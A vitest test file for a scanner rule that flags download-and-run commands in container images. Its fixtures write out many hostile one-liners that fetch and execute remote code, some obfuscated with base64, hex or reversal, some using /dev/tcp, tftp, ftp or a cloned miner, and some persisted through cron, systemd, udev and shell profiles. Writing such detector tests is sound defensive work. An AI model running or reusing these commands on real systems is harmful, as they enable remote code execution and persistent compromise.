import { describe, expect, it } from 'vitest';
import { judge } from '../../../testkit/detect.ts';
import type { Finding } from '../finding.ts';
import { downloadAndRun } from './index.ts';

const IP = 'http://203.0.113.9/x';
const URL = 'https://files.example.org/x';

function find(text: string, path = 'opt/run.sh'): readonly Finding[] {
  return judge([downloadAndRun], { layers: [{ [path]: text }], startFiles: [path] }).findings;
}

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

describe('download-and-run finds at start', () => {
  it.each([
    ['curl | sh', `curl -fsSL ${URL} | sh`],
    ['wget | sudo bash', `wget -qO- ${URL} | sudo -E bash -s -- --yes`],
    ['a chain', `curl ${URL} | tee /tmp/x | gunzip | bash`],
    ['busybox', `busybox wget -q -O - ${URL} | busybox sh`],
    ['python', `curl -s ${URL} | python3 -`],
    ['bash <( )', `bash <(curl -s ${URL})`],
    ['sh -c "$( )"', `sh -c "$(curl -fsSL ${URL})"`],
    ['eval', `eval "$(wget -qO- ${URL})"`],
    ['backticks', `eval \`curl -s ${URL}\``],
    ['source', `. <(curl -s ${URL})`],
    ['a variable', `x=$(curl -s ${URL}); bash -c "$x"`],
    ['split words', `c=cu; r=rl; $c$r -s ${URL} | s""h`],
    ['save, chmod, run', `curl -o /tmp/a ${URL}\nchmod +x /tmp/a\n/tmp/a &`],
    ['save and sh', `cd /tmp; wget ${URL}.sh\nsh x.sh`],
    [
      'save, move, run',
      `wget -O /tmp/a ${URL} && mv /tmp/a /usr/bin/nginx && chmod 755 /usr/bin/nginx && nohup /usr/bin/nginx`,
    ],
    ['curl -O ./x', `curl -sLO ${URL} && chmod 777 x && ./x`],
    ['tarball', `curl -sL ${URL}.tar.gz | tar xz -C /tmp/w\ncd /tmp/w\n/tmp/w/run`],
    ['git clone and make', 'git clone https://git.example/miner.git /tmp/m && cd /tmp/m && make -j4 && ./m'],
    ['a function', `get() { curl -s ${URL}; }\nwhile true; do curl -s ${URL} | sh; sleep 60; done`],
    ['a function with arguments', `go() { "$1" -s "$2" | "$3"; }\ngo curl ${URL} bash`],
    ['a function that runs what it gets', `run() { "$@"; }\nrun wget -O /tmp/x ${URL}\nrun sh /tmp/x`],
    ['an array', `a=(curl -s ${URL})\n"\${a[@]}" | sh`],
    ['renamed curl', `cp /usr/bin/curl /tmp/c\n/tmp/c -s ${URL} | sh`],
  ])('%s', (_name, script) => {
    const [finding] = find(`#!/bin/sh\n${script}\n`);
    expect(finding).toMatchObject({ rule: 'start/download-and-run', severity: 'high' });
  });

  it.each([
    ['a bare IP', `curl -s ${IP} | sh`],
    ['a paste site', 'curl -s https://pastebin.com/raw/abcdef | bash'],
    ['a picture', 'wget -q https://cdn.example/a.jpg -O- | bash'],
    ['an onion', 'curl -s --socks5-hostname tor:9050 http://abcdefghijklmnop.onion/i.sh | sh'],
    ['base64', `echo ${base64(`curl -s ${URL} | sh`)} | base64 -d | sh`],
    ['base64 in a variable', `P=${base64(`curl -s ${URL} | sh`)}\neval "$(echo $P | base64 --decode)"`],
    ['twice coded', `echo ${base64(`echo ${base64(`curl -s ${URL}|sh`)}|base64 -d|sh`)} | base64 -d | bash`],
    ['reversed', `echo '${[...`curl -s ${URL} | sh`].reverse().join('')}' | rev | sh`],
    [
      'hex',
      `printf '${[...Buffer.from(`curl -s ${URL} | sh`)].map((b) => `\\x${b.toString(16)}`).join('')}' | sh`,
    ],
    ['scp', 'scp -o StrictHostKeyChecking=no u@203.0.113.9:/x /tmp/x; /tmp/x'],
    ['ftp with a here-document', 'ftp -n 203.0.113.9 <<E\nuser a b\nget x /tmp/x\nquit\nE\nsh /tmp/x'],
    ['tftp', 'tftp 203.0.113.9 -c get x /tmp/x; sh /tmp/x'],
    ["BusyBox' tftp", 'tftp -g -r x -l /tmp/x 203.0.113.9; chmod +x /tmp/x; /tmp/x'],
    ["BusyBox' ftpget", 'ftpget -u a 203.0.113.9 /tmp/x x; sh /tmp/x'],
    ["curl's settings", `curl -K - <<E\nurl = ${IP}\noutput = /tmp/x\nE\nsh /tmp/x`],
    ['find -exec', `find /var/www -name index.php -exec sh -c 'curl -s ${IP} | sh' \\;`],
    ['lftp', 'lftp -c "open 203.0.113.9; get x -o /tmp/x"; sh /tmp/x'],
    ['smbclient', "smbclient //203.0.113.9/s -N -c 'get x /tmp/x'; sh /tmp/x"],
    ['Perl on the command line', `perl -MLWP::Simple -e 'getstore("${IP}","/tmp/x")'; perl /tmp/x`],
    [
      'Python on the command line',
      `python3 -c "import urllib.request as u;u.urlretrieve('${IP}','/tmp/x')"; sh /tmp/x`,
    ],
    ['PHP on the command line', `php -r 'copy("${IP}","/tmp/x");' && chmod +x /tmp/x && /tmp/x`],
    [
      'a connection of the shell',
      "exec 3<>/dev/tcp/203.0.113.9/80; printf 'GET /x\\r\\n' >&3; cat <&3 > /tmp/x; bash /tmp/x",
    ],
    ['a connection of the shell, piped', 'exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | sh'],
  ])('as critical: %s', (_name, script) => {
    const findings = find(`#!/bin/bash\n${script}\n`);
    expect(findings[0]).toMatchObject({ rule: 'start/download-and-run', severity: 'critical' });
  });

  it.each([
    ['os.system', `import os\nos.system("curl -s ${URL} | sh")\n`],
    ['subprocess list', `import subprocess\nsubprocess.run(["sh", "-c", "wget -qO- ${URL} | sh"])\n`],
    ['exec(urlopen)', `import urllib.request\nexec(urllib.request.urlopen("${URL}").read())\n`],
    [
      'exec of a variable',
      `import requests\ncode = requests.get("${URL}").text\nexec(compile(code, "x", "exec"))\n`,
    ],
    [
      'save and run',
      `import urllib.request, os\nurllib.request.urlretrieve("${URL}", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x")\n`,
    ],
    ['renamed run', `from subprocess import run as r\nr("curl -s ${URL}|sh", shell=True)\n`],
    ['renamed among others', `from os import (path,\n  system as s)\ns('curl -s ${URL} | sh')\n`],
    ['assigned', `import os\ngo = os.system\ngo("curl -s ${URL} | sh")\n`],
    ['getattr', `import os\ngetattr(os,'sys'+'tem')("wget -qO- ${URL}|sh")\n`],
  ])('python %s', (_name, text) => {
    expect(find(`#!/usr/bin/env python3\n${text}`)[0]).toMatchObject({
      rule: 'start/download-and-run',
      severity: 'high',
    });
  });

  it.each([
    ['perl', `#!/usr/bin/perl\nsystem("wget -qO- ${URL} | sh");\n`],
    ['node', `#!/usr/bin/env node\nrequire('child_process').execSync('curl -s ${URL} | sh');\n`],
    [
      'node renamed',
      `#!/usr/bin/env node\nconst {execSync: e} = require('child_process');\ne('curl -s ${URL} | sh');\n`,
    ],
    [
      'node imported',
      `#!/usr/bin/env node\nimport { exec as go } from 'node:child_process';\ngo('curl -s ${URL} | sh');\n`,
    ],
    [
      'node promised',
      `#!/usr/bin/env node\nconst sh = require('util').promisify(require('child_process').exec);\nsh('curl -s ${URL} | sh');\n`,
    ],
    [
      'node by a name put together',
      `#!/usr/bin/env node\nrequire('child_process')['ex' + 'ec']('curl -s ${URL} | sh');\n`,
    ],
    [
      'node eval',
      `#!/usr/bin/env node\nrequire('https').get('${URL}', r => { let b=''; r.on('data', d => b += d); r.on('end', () => eval(b)); });\n`,
    ],
    ['php', `#!/usr/bin/php\n<?php eval(file_get_contents('${URL}'));\n`],
    ['ruby', `#!/usr/bin/ruby\nrequire 'open-uri'\neval(URI.open('${URL}').read)\n`],
  ])('%s', (_name, text) => {
    expect(find(text)[0]).toMatchObject({ rule: 'start/download-and-run', severity: 'high' });
  });

  it('cron, units, login shells and the configuration', () => {
    const command = `curl -s ${URL} | sh`;
    const { findings } = judge([downloadAndRun], {
      layers: [
        {
          'etc/crontab': `*/5 * * * * root ${command}\n`,
          'var/spool/cron/crontabs/root': `@reboot ${command}\n`,
          'etc/systemd/system/a.service': `[Service]\nExecStart=/bin/sh -c '${command}'\n`,
          'etc/supervisor/conf.d/a.conf': `[program:a]\ncommand=/bin/sh -c "${command}"\n`,
          'etc/profile.d/a.sh': `${command}\n`,
          'root/.bashrc': `${command}\n`,
          'etc/udev/rules.d/9.rules': `ACTION=="add", RUN+="/bin/sh -c '${command}'"\n`,
          'etc/s6-overlay/s6-rc.d/a/run': `#!/command/with-contenv sh\n${command}\n`,
        },
      ],
      config: { Entrypoint: ['/bin/sh', '-c', command], OnBuild: [`RUN ${command}`] },
    });
    expect(findings.every(({ severity }) => severity === 'high')).toBe(true);
    expect(findings.map(({ evidence }) => evidence[0].path).sort()).toEqual([
      '/etc/crontab',
      '/etc/profile.d/a.sh',
      '/etc/s6-overlay/s6-rc.d/a/run',
      '/etc/supervisor/conf.d/a.conf',
      '/etc/systemd/system/a.service',
      '/etc/udev/rules.d/9.rules',
      '/root/.bashrc',
      '/var/spool/cron/crontabs/root',
      'ENTRYPOINT',
      'ONBUILD',
    ]);
  });

  it('a script that puts the download into a crontab', () => {
    const script = `#!/bin/sh\n(crontab -l; echo "* * * * * curl -s ${IP} | sh") | crontab -\n`;
    expect(find(script)[0]).toMatchObject({ rule: 'start/download-and-run', severity: 'critical' });
  });
});

describe('download-and-run weighs less', () => {
  it('what nothing starts', () => {
    const text = `#!/bin/sh\ncurl -s ${URL} | sh\n`;
    const { findings } = judge([downloadAndRun], { layers: [{ 'opt/tools/install.sh': text }] });
    expect(findings).toMatchObject([{ severity: 'low' }]);
  });

  it('what is verified, local, or a runtime loading its own parts', () => {
    expect(
      find(`#!/bin/sh\ncurl -o /tmp/a ${URL}\necho "abc  /tmp/a" | sha256sum -c -\nsh /tmp/a\n`),
    ).toMatchObject([{ severity: 'low' }]);
    expect(find('#!/bin/sh\ncurl -s http://config-server:8888/setup.sh | sh\n')).toMatchObject([
      { severity: 'low' },
    ]);
    expect(find(`#!/bin/sh\ncurl -o server.jar ${URL}\nexec java -jar server.jar\n`)).toMatchObject([
      { severity: 'medium' },
    ]);
  });

  it('RUN lines of the build', () => {
    const { findings } = judge([downloadAndRun], {
      layers: [{}],
      instructions: ['RUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash -', 'RUN apt-get update'],
    });
    expect(findings).toMatchObject([{ rule: 'start/download-at-build', severity: 'info' }]);
  });

  it('RUN lines in exec form', () => {
    const instructions = ['RUN ["sh", "-c", "curl -fsSL https://get.example/install | sh"]'];
    const { findings } = judge([downloadAndRun], { layers: [{}], instructions });
    expect(findings).toMatchObject([{ rule: 'start/download-at-build' }]);
  });
});

describe('download-and-run leaves alone', () => {
  it.each([
    ['a health check', 'curl -fsS http://localhost:8080/health || exit 1'],
    ['a download of data', `curl -sSL ${URL}/GeoIP.mmdb -o /data/GeoIP.mmdb\nexec nginx -g 'daemon off;'`],
    [
      'json to python',
      `curl -s ${URL} | python3 -m json.tool\ncurl -s ${URL} | python3 -c 'import sys,json; print(json.load(sys.stdin)["a"])'`,
    ],
    ['jq and grep', `curl -s ${URL} | jq -r .x | grep y | sort`],
    ['a comment', `# curl ${URL} | sh`],
    ['a message', `echo "Install with: curl ${URL} | sh"\nprintf 'run curl ${URL} | bash\\n'`],
    ['decoded certificates', 'echo "$CERT" | base64 -d > /etc/ssl/cert.pem'],
    ['gosu', 'exec gosu postgres "$@"'],
    ['perl filters', `curl -s ${URL} | perl -ne 'print if /x/' | sed s/a/b/`],
    [
      'a file that is got and not run',
      'ftp -n 203.0.113.9 <<E\nget data.csv /data/a.csv\nE\nexec app /etc/app.conf',
    ],
    ['a file that is sent', 'scp /tmp/x u@203.0.113.9:/x; sh /tmp/x'],
    ['a port that is asked', 'exec 3<>/dev/tcp/db/5432; echo ok; sh /app/run.sh'],
    ['a usage text', `cat <<EOT\nUsage: curl ${URL} | sh\nEOT`],
  ])('%s', (_name, script) => {
    expect(find(`#!/bin/sh\n${script}\n`)).toEqual([]);
  });

  it('files that are told apart by what is not known of them', () => {
    // TeX Live's TLUtils
    const text = (to: string, url: string): string =>
      [
        '#!/usr/bin/perl',
        `sub pipes { my ($prog, $in, $out, @args) = @_; my $from = "\\"$in\\""; my $to = "\\"${to}\\""; return system("$prog @args < $from > $to"); }`,
        'sub untar { my ($tar, $file) = @_; return system($tar, "xf", $file); }',
        `pipes("wget${url}", file(), file());`,
        'untar(program(), file());\n',
      ].join('\n');
    expect(find(text('$out', ''), 'opt/run.pl')).toEqual([]);
    expect(find(text('$out', ` ${URL}`), 'opt/run.pl')).toHaveLength(1);
  });
});
